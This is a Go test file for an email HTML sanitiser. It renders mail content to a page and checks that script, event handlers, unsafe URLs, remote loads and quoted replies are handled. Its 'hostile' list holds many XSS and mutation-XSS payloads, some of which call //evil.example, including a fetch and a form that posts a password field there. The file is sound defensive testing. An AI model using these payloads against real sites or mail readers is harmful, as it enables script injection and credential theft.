package mailbox

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	nethtml "golang.org/x/net/html"

	"github.com/fichahq/ficha/internal/conversation"
)

// shown gives the body of the page that a mail with some HTML becomes.
func shown(t *testing.T, source string, how Showing, more map[string]any, files ...conversation.StoredFile) string {
	t.Helper()
	s := &Service{policy: newPolicy(), showing: newShowing()}
	mail := map[string]any{"html_content": map[string]any{"full": source}}
	for name, value := range more {
		mail[name] = value
	}
	page := s.Page(conversation.Message{Attributes: map[string]any{"email": mail}, Files: files}, how)
	_, body, _ := strings.Cut(page, "<body>")
	return strings.TrimSuffix(body, "</body></html>")
}

// hostile are mails that want to do something to who reads them.
var hostile = []string{
	`<script>fetch("//evil.example")</script><SCRIPT src=//evil.example/x.js></SCRIPT><scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<img src=x onerror=alert(1)><img src="x" OnError = "alert(1)"><img/src=x/onerror=alert(1)><body onload=alert(1)><p onmouseover=alert(1)>x`,
	`<a href="javascript:alert(1)">a</a><a href=" jAvAsCrIpT:alert(1)">b</a><a href="java&#9;script:alert(1)">c</a><a href="data:text/html,<script>alert(1)</script>">d</a><a href="vbscript:x">e</a><a href="//evil.example">f</a>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"><img src="javascript:alert(1)"><img srcset="//evil.example 2x"><picture><source srcset="//evil.example"></picture>`,
	`<svg><script>alert(1)</script><animate onbegin=alert(1)><use href="data:x"/><foreignObject><iframe src=//evil.example></foreignObject></svg><svg/onload=alert(1)>`,
	`<style>@import "//evil.example";body{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example><div style="position:fixed;inset:0;z-index:9;background:url(//evil.example)">x</div>`,
	`<p style="color:expression(alert(1));width:calc(url(//evil.example));behavior:url(#x);-moz-binding:url(//evil.example)">x</p><div style="background-color:url(javascript:alert(1))">y</div>`,
	`<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example/"><form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">ok</button></form>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="//evil.example"></object><embed src="//evil.example"><video poster="//evil.example" src="//evil.example"></video><audio src=//evil.example></audio>`,
	`<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee><math href="javascript:alert(1)">x</math>`,
	// Texts that become something else when they are read once more.
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
	`<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<p alt="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">&lt;img src=x onerror=alert(1)&gt;</p><img alt="<img src=x onerror=alert(1)>" src="https://evil.example/a">`,
	`<!--><img src=x onerror=alert(1)>--><![CDATA[<img src=x onerror=alert(1)>]]><?x <img src=x onerror=alert(1)>?><textarea></textarea><img src=x onerror=alert(1)></textarea>`,
	`<title><a href="</title><img src=x onerror=alert(1)>">x</title><xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>`,
	`<div data-src="//evil.example" data-cid=x><img data-src="javascript:alert(1)" data-cid="x&quot; onerror=alert(1)">x`,
}

// harm says what of a page could do something, "" for nothing: it holds only what is known.
func harm(t *testing.T, body string) string {
	t.Helper()
	root, err := nethtml.Parse(strings.NewReader("<!DOCTYPE html><html><head></head><body>" + body))
	if err != nil {
		return "" // deeper than what is looked at; the frame and its policy are there for what nobody has thought of
	}
	attributes := []string{
		"href", "src", "alt", "style", "dir", "lang", "align", "valign", "width", "height", "cellpadding", "cellspacing", "border", "bgcolor", "color",
		"rel", "target", "colspan", "rowspan", "headers", "nowrap", "scope", "abbr", "summary", "span", "halign", "axis", "data-src", "data-cid",
	}
	for n := range root.Descendants() {
		if n.Type != nethtml.ElementNode {
			continue
		}
		if n.Namespace != "" || slices.Contains([]string{"script", "style", "iframe", "object", "embed", "form", "input", "button", "meta", "base", "link", "svg", "math", "video", "audio", "source", "template", "noscript"}, n.Data) && n.Parent.Data != "head" {
			return "an element " + n.Data
		}
		for _, a := range n.Attr {
			value := strings.ToLower(strings.TrimSpace(a.Val))
			switch {
			case !slices.Contains(attributes, a.Key):
				return "an attribute " + a.Key
			case a.Key == "href" && !slices.ContainsFunc([]string{"http://", "https://", "mailto:", "tel:"}, func(begin string) bool { return strings.HasPrefix(value, begin) }),
				a.Key == "src" && !strings.HasPrefix(value, "http"), a.Key == "style" && (strings.Contains(value, "url(") || strings.Contains(value, "position") || strings.Contains(value, "expression")):
				return a.Key + " " + a.Val
			}
		}
	}
	return ""
}

func TestHostileMailsDoNothing(t *testing.T) {
	for _, source := range hostile {
		for _, how := range []Showing{{}, {Pictures: true, Dark: true}} {
			body := shown(t, source, how, nil)
			if bad := harm(t, body); bad != "" {
				t.Errorf("%s\n still has %s\n in %s", source, bad, body)
			}
			if !how.Pictures && hasTag(body, " src=") {
				t.Errorf("%s\n loads something: %s", source, body)
			}
		}
	}
}

func TestHarmIsFound(t *testing.T) {
	for _, body := range []string{`<script>1</script>`, `<p onclick=x>`, `<a href="javascript:x">`, `<svg>`, `<p style="position:fixed">`, `<img src=x>`} {
		if harm(t, body) == "" {
			t.Errorf("%s passes as harmless", body)
		}
	}
}

func TestAMailOfNothingButTables(t *testing.T) {
	m := read(t, raw(from, "Content-Type: text/html", "", strings.Repeat("<table><tr><td>", 5<<20/15), "fim"))
	s := &Service{policy: newPolicy(), showing: newShowing()}
	if html := s.safe(m.HTML); html != "" || !m.Cut {
		t.Errorf("%d bytes are kept of %d", len(html), len(m.HTML))
	}
	deep := strings.Repeat("<table><tr><td>", 4000) + `<p onclick="x">fim</p>`
	if body := shown(t, deep, Showing{}, nil); !strings.Contains(body, "fim") || strings.Contains(body, "onclick") {
		t.Errorf("a deep one becomes %q", body[max(0, len(body)-100):])
	}
}

func TestPicturesOfAMail(t *testing.T) {
	file := func(kind conversation.FileKind, url string) conversation.StoredFile {
		return conversation.StoredFile{Kind: kind, URL: url}
	}
	files := []conversation.StoredFile{file(conversation.Other, "https://nossa.example/1"), file(conversation.Image, "https://nossa.example/2")}
	more := map[string]any{"inline_images": map[string]any{"logo@x": json.Number("1"), "texto@x": json.Number("0"), "fora@x": json.Number("7")}}
	source := `<img src="cid:logo@x" alt="logo"><img src="cid:texto@x"><img src="cid:fora@x"><img src="https://fora.example/p.gif" width="1">`
	if got, want := shown(t, source, Showing{}, more, files...), `<img alt="logo" src="https://nossa.example/2"><img width="1">`; !alike(got, want) {
		t.Errorf("without pictures of the web %s", got)
	}
	if got := shown(t, source, Showing{Pictures: true}, more, files...); !strings.Contains(got, `src="https://fora.example/p.gif"`) || strings.Contains(got, "nossa.example/1") {
		t.Errorf("with them %s", got)
	}
}

// alike compares HTML without caring how an element without content is closed.
func alike(a, b string) bool {
	return strings.ReplaceAll(a, "/>", ">") == strings.ReplaceAll(b, "/>", ">")
}

func TestPaper(t *testing.T) {
	s := &Service{policy: newPolicy(), showing: newShowing()}
	for source, paper := range map[string]string{`<p>a cor: color</p>`: "dark", `<p style="color: #111">a</p>`: "light", `<table bgcolor="white"><tr><td>a</td></tr></table>`: "light"} {
		m := conversation.Message{Attributes: map[string]any{"email": map[string]any{"html_content": map[string]any{"full": source}}}}
		if page := s.Page(m, Showing{Dark: true, Locale: "pt-BR"}); !strings.Contains(page, `lang="pt-BR" class="`+paper+`"`) {
			t.Errorf("%s is on %s", source, page[:60])
		}
		if page := s.Page(m, Showing{}); !strings.Contains(page, `class="light"`) {
			t.Errorf("%s is dark though nobody asked", source)
		}
	}
	if page := s.Page(conversation.Message{}, Showing{}); page != "" {
		t.Errorf("no mail becomes %q", page)
	}
}

func TestQuotesOfHTMLAreFolded(t *testing.T) {
	const label = `<details><summary>Earlier messages</summary>`
	for name, c := range map[string]struct{ source, want string }{
		"Gmail":          {`<div>Sim</div><br><div><div>Em ter., 3 de nov. de 2026, Ana escreveu:<br></div><blockquote>Quer?</blockquote></div>`, `<div>Sim</div><br><div>` + label + `<div>Em ter., 3 de nov. de 2026, Ana escreveu:<br></div><blockquote>Quer?</blockquote></details></div>`},
		"Apple":          {`Sim<br><div>On 3 Nov 2026, Ana wrote:</div><blockquote>Quer?<blockquote>Oi</blockquote></blockquote>`, `Sim<br>` + label + `<div>On 3 Nov 2026, Ana wrote:</div><blockquote>Quer?<blockquote>Oi</blockquote></blockquote></details>`},
		"no attribution": {`<p>Sim</p><blockquote>Quer?</blockquote> `, `<p>Sim</p>` + label + `<blockquote>Quer?</blockquote></details>`},
		"Outlook":        {`<p>Sim</p><div><p><b>De:</b> Ana<br><b>Enviado:</b> terça<br><b>Para:</b> Bia<br><b>Assunto:</b> pão</p></div><p>Quer?</p>`, `<p>Sim</p>` + label + `<div><p><b>De:</b> Ana`},
		"answered below": {`<blockquote>Quer?</blockquote><p>Sim</p>`, `<blockquote>Quer?</blockquote><p>Sim</p>`},
		"between":        {`Oi<blockquote>Um?</blockquote><p>Sim</p><blockquote>Dois?</blockquote>Não`, `Oi<blockquote>Um?</blockquote><p>Sim</p><blockquote>Dois?</blockquote>Não`},
		"nothing else":   {`<blockquote>Quer?</blockquote>`, `<blockquote>Quer?</blockquote>`},
		"a picture last": {`<p>Sim</p><blockquote>Quer?</blockquote><img src="cid:a" alt="a">`, `<p>Sim</p><blockquote>Quer?</blockquote><img alt="a">`},
	} {
		if got := shown(t, c.source, Showing{Quoted: "Earlier messages"}, nil); !strings.HasPrefix(strings.ReplaceAll(got, "/>", ">"), c.want) {
			t.Errorf("%s:\n %s", name, got)
		}
	}
	forwarded := `<p>Veja</p><blockquote>Quer?</blockquote>`
	if got := shown(t, forwarded, Showing{}, map[string]any{"subject": "ENC: pão"}); got != forwarded {
		t.Errorf("what is passed on is folded: %s", got)
	}
}

// FuzzPage shows anything that could be stored. Nothing in it does anything.
func FuzzPage(f *testing.F) {
	for _, source := range hostile {
		f.Add(source, false)
	}
	f.Add(`Sim<div>Ana wrote:</div><blockquote>x</blockquote>`, true)
	f.Fuzz(func(t *testing.T, source string, pictures bool) {
		body := shown(t, source, Showing{Pictures: pictures, Quoted: "Earlier messages"}, map[string]any{"inline_images": map[string]any{"a": json.Number("0")}})
		if bad := harm(t, body); bad != "" {
			t.Errorf("%q\n has %s\n in %q", source, bad, body)
		}
	})
}
